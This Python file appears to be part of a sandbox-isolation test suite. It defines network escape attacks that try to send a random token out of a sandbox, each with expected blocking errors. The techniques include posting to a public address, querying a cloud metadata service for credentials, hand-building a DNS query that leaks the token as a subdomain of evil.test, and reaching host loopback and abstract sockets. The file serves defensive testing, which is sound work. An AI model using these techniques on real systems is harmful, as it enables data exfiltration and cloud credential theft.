# SPDX-License-Identifier: Apache-2.0
"""Attacks that reach somebody over a socket."""

import struct

from belljar_lab.attack import EVERY, Attack
from belljar_lab.outer import METADATA, PUBLIC
from belljar_lab.run import Run
from belljar_lab.servers import RESOLVER


def asks_over_http(address, request):
    """Python that sends one request: imports of a library would take longer than the run."""
    return f"""
peer = socket.create_connection(({address!r}, 80))
peer.sendall({request.encode()!r})
print(peer.makefile().read())
"""


def phones_home(run: Run):
    server, token = run.world.http, run.world.token()
    said = run.python(asks_over_http(
        PUBLIC, f"POST / HTTP/1.0\r\nContent-Length: {len(token)}\r\n\r\n{token}"))
    return run.judge(said, server.heard(token))


def asks_for_the_machines_credentials(run: Run):
    return run.python(asks_over_http(
        METADATA, "GET /latest/meta-data/iam/security-credentials/role HTTP/1.0\r\n\r\n"),
        leaks=run.world.metadata.token)


def resolves_a_name_that_tells(run: Run):
    """By hand: names are read from files only in the image, so its C library asks nobody."""
    token = run.world.token()
    name = f"{token}.evil.test"
    query = struct.pack(">6H", 1, 0x100, 1, 0, 0, 0) + b"".join(
        bytes([len(label)]) + label.encode() for label in [*name.split("."), ""]
    ) + struct.pack(">2H", 1, 1)
    said = run.python(f"""
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect(({RESOLVER!r}, 53))
sock.send({query!r})
sock.recv(512)
""")
    return run.judge(said, name in run.world.dns.names())


def connects_to_the_callers_loopback(run: Run):
    server, token = run.world.listener(), run.world.token()
    said = run.python(f"""
peer = socket.create_connection(("127.0.0.1", {server.port}))
peer.sendall({token!r}.encode())
""")
    return run.judge(said, server.heard(token))


def connects_to_an_abstract_socket(run: Run):
    (name, server), token = run.world.abstract_socket(), run.world.token()
    said = run.python(f"""
peer = socket.socket(socket.AF_UNIX)
peer.connect("\\0{name}")
peer.sendall({token!r}.encode())
""")
    return run.judge(said, server.heard(token))


ROWS = [
    Attack("phone-home", "C", phones_home, main=True,
           does="posts a token to a public address over HTTP",
           success="the server there received the token",
           stops=(("net", "ENETUNREACH"),)),
    Attack("ask-metadata", "C", asks_for_the_machines_credentials,
           does="asks a cloud's metadata service for the machine's credentials",
           success="the random token that it gives is in the program's output",
           stops=(("net", "ENETUNREACH"),)),
    Attack("tell-by-name", "C", resolves_a_name_that_tells,
           does="resolves a name that has a token in it",
           success="the resolver was asked for that name",
           stops=(("net", "ECONNREFUSED"),)),
    Attack("reach-host-loopback", "C", connects_to_the_callers_loopback,
           does="connects to a server on the host's loopback and sends a token",
           success="the server received the token",
           stops=(("net", "ECONNREFUSED"),)),
    Attack("reach-abstract-socket", "A", connects_to_an_abstract_socket,
           does="connects to an abstract socket of a process outside and sends a token",
           success="the server received the token",
           stops=(("net", "ECONNREFUSED"), ("landlock", "EPERM", EVERY, "landlock-scopes"))),
]
